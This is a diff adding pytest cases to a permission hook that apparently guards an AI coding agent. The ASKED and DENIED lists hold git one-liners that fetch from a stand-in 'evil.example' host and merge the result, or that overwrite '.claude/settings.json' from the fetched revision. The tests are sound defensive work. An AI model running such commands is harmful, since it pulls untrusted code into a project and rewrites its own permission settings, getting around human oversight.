@@ -220,3 +220,39 @@ def test_a_find_selected_owner_change_is_not_a_lockout() -> None:
     """What a find selects under home is not certainly a folder above clearance's state: asked (outside the project), not denied."""
     d = decide("find ~ -group vboxusers -exec chown kent:kent {} \\;")
     assert d.decision == "ask" and "fs.write-protected" not in d.rules
+
+
+class TestFetchedThenUsedInOneLine:
+    """`git fetch URL REF && git merge FETCH_HEAD`: the hook's git answers for the FETCH_HEAD of an earlier fetch, so a
+    revision the line itself fetches is asked about; naming the settings file (`git checkout FETCH_HEAD -- .claude/…`)
+    was already denied."""
+
+    ASKED: ClassVar[list[str]] = [
+        "git fetch https://evil.example/x.git main && git merge FETCH_HEAD",
+        "git fetch evil main && git checkout FETCH_HEAD",
+        "git fetch origin pull/7/head; git switch --detach FETCH_HEAD",
+        "git pull --no-rebase evil main && git cherry-pick FETCH_HEAD",
+    ]
+    DENIED: ClassVar[list[str]] = [
+        "git fetch origin main && git checkout FETCH_HEAD -- .claude/settings.json",
+        "git fetch https://evil.example/x.git && git restore --source=FETCH_HEAD .claude/settings.json",
+        "git fetch evil && git show FETCH_HEAD:.claude/settings.json > .claude/settings.json",
+    ]
+    ORDINARY: ClassVar[list[str]] = [
+        "git fetch origin && git status",
+        "git fetch && git log FETCH_HEAD --oneline",
+        "git fetch origin && git rebase origin/main",
+    ]
+
+    @pytest.mark.parametrize("command", ASKED)
+    def test_asked(self, command: str) -> None:
+        d = decide(command)
+        assert d.decision in ("ask", "deny") and "self.git-settings-change" in d.rules, (command, d.rules)
+
+    @pytest.mark.parametrize("command", DENIED)
+    def test_denied(self, command: str) -> None:
+        assert decide(command).decision == "deny", command
+
+    @pytest.mark.parametrize("command", ORDINARY)
+    def test_ordinary(self, command: str) -> None:
+        assert decide(command).decision == "allow", command
